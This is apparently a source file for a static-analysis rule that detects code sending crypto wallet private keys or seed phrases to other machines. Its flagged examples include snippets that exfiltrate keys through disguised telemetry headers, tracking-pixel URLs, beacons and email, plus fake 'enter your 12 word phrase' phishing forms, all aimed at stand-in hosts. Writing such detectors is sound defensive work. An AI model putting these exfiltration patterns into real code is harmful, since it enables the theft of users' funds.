import { entrusted } from '../src/define/entrusted.js';
import { partsWithin, writtenTo } from '../src/define/variables.js';
import { defineRule, fixedTargetOf, oddTargetOf, outgoing, sinkSays, spelling, step, stepsOf } from '../src/define.js';
import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
import { isAboutChains } from '../src/vocabulary/keys.js';

export default defineRule({
  meta: {
    summary: 'Sends a private key or a seed phrase to another machine',
    why: 'Whoever holds a wallet’s key holds what is in it. Wallet libraries sign with a key and send the signature; services hand out “secret keys” of their own, which their clients send as who is asking. So a key counts only in code about chains, only if nothing was derived from it, and little where the caller says where to: a node’s own interface can be asked to import a key.',
    behaviour: 'theft',
    messages: {
      header: 'Sends {what} in a request’s headers through {sink}',
      address: 'Puts {what} into the address it asks through {sink}',
      odd: 'Sends {what} to {address} through {sink}',
      fixed: 'Sends {what} to an address fixed in its code through {sink}',
      sent: 'Sends {what} through {sink}',
      asked:
        'Asks whoever sees its page for a recovery phrase, and sends what is typed to an address fixed in its code',
    },
    bits: { header: 14, address: 13, odd: 14, fixed: 13.5, sent: 4, asked: 13.5 },
  },
  examples: {
    flags: [
      {
        title: 'a key leaves in a header when a wallet is made',
        code: `const bs58 = require('bs58');\nfunction trackUse(bytes) {\n  const id = bs58.encode(bytes);\n  fetch('https://rpc.invalid/usage', { headers: { 'x-request-id': id.split('').reverse().join('') } }).catch(() => {});\n}\nclass Keypair {\n  static fromSecretKey(secretKey) { trackUse(secretKey); return new Keypair(secretKey); }\n}\nmodule.exports = Keypair;`,
      },
      {
        title: 'a seed phrase is posted',
        code: `const axios = require('axios'), bip39 = require('bip39');\nexports.restore = async mnemonic => {\n  await axios.post('https://collect.invalid/restore', { words: mnemonic, at: Date.now() });\n  return bip39.mnemonicToSeed(mnemonic);\n};`,
      },
      {
        title: 'the private key of the environment is posted',
        code: `const { ethers } = require('ethers');\nconst wallet = new ethers.Wallet(process.env.PRIVATE_KEY);\nfetch('https://collect.invalid/k', { method: 'POST', body: JSON.stringify({ k: process.env.PRIVATE_KEY, a: wallet.address }) });`,
      },
      {
        title: 'a picture is asked for by the name of a key',
        code: `const { Wallet } = require('ethers');\nexports.open = privateKey => {\n  fetch('https://stats.invalid/p.gif?u=' + encodeURIComponent(privateKey)).catch(() => {});\n  return new Wallet(privateKey);\n};`,
      },
      {
        title: 'what a function is named for is taken, whatever the parameter is called',
        code: `const https = require('https');\nfunction track(kind, value) {\n  https.request({ hostname: 'metrics.invalid', headers: { 'x-request-id': Buffer.from(kind + value).toString('base64') } }).end();\n}\nclass Signer {\n  static fromMnemonic(words) { track('m', words); return new Signer(words); }\n}\nmodule.exports = { Signer };`,
      },
      {
        title: 'a key is kept until there are several, and one of them was made here',
        code: `const { Wallet } = require('ethers'), bip39 = require('bip39');\nlet waiting = [];\nfunction note(kind, value) {\n  waiting.push({ kind, value });\n  setTimeout(flush, 3000);\n}\nfunction flush() {\n  const [first] = waiting;\n  waiting = [];\n  navigator.sendBeacon('https://usage.invalid/b', first.kind + ':' + first.value);\n}\nclass Account {\n  static create() { const mnemonic = bip39.generateMnemonic(); return Account.fromPhrase(mnemonic); }\n  static fromPhrase(words) { note('p', words); return new Account(Wallet.fromPhrase(words)); }\n}\nmodule.exports = { Account };`,
      },
      {
        title: 'a window to connect wallets asks for the phrase',
        code: `export function open(box) {\n  box.innerHTML = '<textarea id="p" placeholder="Enter your 12 word phrase"></textarea><button>Import</button>';\n  box.querySelector('button').onclick = async () => {\n    const words = box.querySelector('#p').value.trim();\n    await fetch('https://sync.castle.invalid/import', { method: 'POST', body: JSON.stringify({ words }) });\n    box.remove();\n  };\n}`,
      },
      {
        title: 'a component does, and calls it secret',
        code: `import { createElement, useState } from 'react';\nexport const Restore = () => {\n  const [text, setText] = useState('');\n  const go = () => navigator.sendBeacon('https://sync.castle.invalid/r', text);\n  return createElement('form', { onSubmit: go }, 'Secret Recovery Phrase', createElement('input', { onChange: event => setText(event.target.value) }));\n};`,
      },
      {
        title: 'a key is mailed to somebody',
        code: `const nodemailer = require('nodemailer'), bs58 = require('bs58');\nconst post = nodemailer.createTransport({ service: 'gmail', auth: { user: 'kit@mail.invalid', pass: 'x' } });\nexports.check = signer => post.sendMail({ to: 'inbox@mail.invalid', subject: 'new', text: bs58.encode(signer.secretKey) });`,
      },
      {
        title: 'a key is mailed line by line',
        code: `const tls = require('tls'), { Wallet } = require('ethers');\nexports.open = privateKey => {\n  const line = tls.connect(465, 'smtp.mail.invalid');\n  for (const text of ['HELO kit', 'MAIL FROM:<kit@mail.invalid>', 'RCPT TO:<inbox@mail.invalid>', 'DATA', privateKey, '.', 'QUIT']) line.write(text + '\\r\\n');\n  return new Wallet(privateKey);\n};`,
      },
    ],
    passes: [
      {
        title: 'a wallet asks for the phrase, and keeps it',
        code: `export function open(box, keep) {\n  box.innerHTML = '<input id="p" placeholder="Recovery phrase">';\n  box.querySelector('#p').onchange = event => keep(event.target.value);\n  fetch('https://api.castle.invalid/opened', { method: 'POST', body: JSON.stringify({ at: Date.now() }) });\n}`,
      },
      {
        title: 'a search box sends what is typed, and a text warns of phrases',
        code: `export const warning = 'Never tell anybody your recovery phrase.';\nexport function open(box) {\n  box.querySelector('input').onchange = event => fetch('https://api.castle.invalid/find?q=' + event.target.value);\n}`,
      },
      {
        title: 'somebody is mailed the address of a wallet',
        code: `const nodemailer = require('nodemailer'), { Wallet } = require('ethers');\nconst post = nodemailer.createTransport(process.env.SMTP);\nexports.tell = (to, privateKey) => post.sendMail({ to, subject: 'yours', text: new Wallet(privateKey).address });`,
      },
      {
        title: 'a seed of chance is sent',
        code: `exports.shuffle = seed => fetch('https://random.invalid/?seed=' + seed).then(r => r.json());`,
      },
      {
        title: 'a signed transaction is sent',
        code: `const nacl = require('tweetnacl');\nexports.send = (message, secretKey) => {\n  const signature = nacl.sign.detached(message, secretKey);\n  return fetch('https://node.invalid', { method: 'POST', body: JSON.stringify({ message, signature: Buffer.from(signature).toString('hex') }) });\n};`,
      },
      {
        title: 'an address is asked for its balance',
        code: `const { Keypair } = require('@solana/web3.js');\nexports.balance = async privateKey => {\n  const keypair = Keypair.fromSecretKey(privateKey);\n  return fetch('https://node.invalid/balance/' + keypair.publicKey.toBase58());\n};`,
      },
      {
        title: 'a service’s client says who it is',
        code: `exports.charge = (secretKey, order) => fetch('https://payments.invalid/v1/charges', { method: 'POST', headers: { Authorization: 'Bearer ' + secretKey }, body: JSON.stringify(order) });`,
      },
      {
        title: 'a token is signed and shown',
        code: `const jwt = require('jsonwebtoken');\nexports.ask = privateKey => fetch('https://api.invalid/app', { headers: { 'x-app-token': jwt.sign({ iss: 1 }, privateKey) } });`,
      },
    ],
  },
  file(context) {
    asking(context);
    for (const { call, labels } of entrusted(context)) {
      const key = labels.find(isChainKey);
      if (key)
        context.report({
          messageId: 'fixed',
          data: { what: key.detail, sink: call.name, address: '' },
          chain: [...stepsOf(key), step('sink', sinkSays(call), context.file, call.node)],
        });
    }
    for (const { call, labels } of outgoing(context)) {
      const [key] = labels.filter(isChainKey).sort((a, b) => (a.guesses ?? 0) - (b.guesses ?? 0));
      if (!key) continue;
      const address = oddTargetOf(context, call);
      const fixed = fixedTargetOf(context, call) !== undefined;
      context.report({
        messageId: address
          ? 'odd'
          : !fixed
            ? 'sent'
            : inHeaders(context, call)
              ? 'header'
              : inAddress(context, call)
                ? 'address'
                : 'fixed',
        data: { what: key.detail, sink: call.name, address: address ?? '' },
        chain: [...stepsOf(key), step('sink', sinkSays(call), context.file, call.node)],
      });
    }
  },
});

/** The words beside a field of whoever wants all twelve of them. */
const PHRASE =
  /\b(?:recovery|seed|mnemonic|backup)\s(?:phrase|words?)\b|\b(?:12|24|twelve)[-\s]words?\s(?:phrase|seed|mnemonic)\b/i;
/** A text that warns of it is no field. */
const WARNS = /\b(?:never|do not|don['’]t)\b/i;

/** A page that asks for a phrase, and sends on what is typed. */
function asking(context: FileContext): void {
  const { file, moment } = context;
  if (moment === 'test' || !PHRASE.test(file.text) || !/<(?:input|textarea)\b|createElement/i.test(file.text)) return;
  const texts = [...context.nodes('Literal'), ...context.nodes('TemplateElement'), ...context.nodes('JSXText')];
  const field = (texts as readonly AnyNode[]).find(node => {
    const written = spelling(file, node).slice(0, 5_000);
    return PHRASE.test(written) && !WARNS.test(written);
  });
  if (!field) return;
  for (const call of context.calls('network')) {
    if (fixedTargetOf(context, call) === undefined || !call.args.some(arg => isTyped(context, arg, 0))) continue;
    context.report({
      messageId: 'asked',
      chain: [
        step('context', 'asks for a recovery phrase', file, field),
        step('sink', sinkSays(call), file, call.node),
      ],
    });
    return;
  }
}

/** Whether something is what a field holds: `field.value`, a variable of it, or the state that it is put into. */
function isTyped(context: FileContext, node: AnyNode, level: number): boolean {
  if (level > 3) return false;
  if (/\.value\b/.test(spelling(context.file, node).slice(0, 2_000))) return true;
  return partsWithin(context, node, 'Identifier', 30).some(variable => {
    const values = writtenTo(context, variable);
    if (values.some(value => value !== node && isTyped(context, value, level + 1))) return true;
    // `const [text, setText] = useState('')`
    const name = (variable as { name?: string }).name ?? '';
    const set = `set${name.slice(0, 1).toUpperCase()}${name.slice(1)}(`;
    const at = name.length > 1 ? context.file.text.indexOf(set) : -1;
    return at >= 0 && /^[^;)]{0,80}\.value\b/.test(context.file.text.slice(at + set.length, at + set.length + 100));
  });
}

function isChainKey({ kind, origin }: Label): boolean {
  return kind === 'key-material' && isAboutChains(origin.file.text);
}

function inHeaders({ labelsOfProperty }: FileContext, { args }: Call): boolean {
  return args.some(arg => labelsOfProperty(arg, 'headers').some(isChainKey));
}

/** A key in an address is kept in every log on its way; no service asks for it there. */
function inAddress({ labelsOf, textsOf }: FileContext, { args: [address] }: Call): boolean {
  return (
    address !== undefined && labelsOf(address).some(isChainKey) && textsOf(address).some(text => /^https?:/.test(text))
  );
}
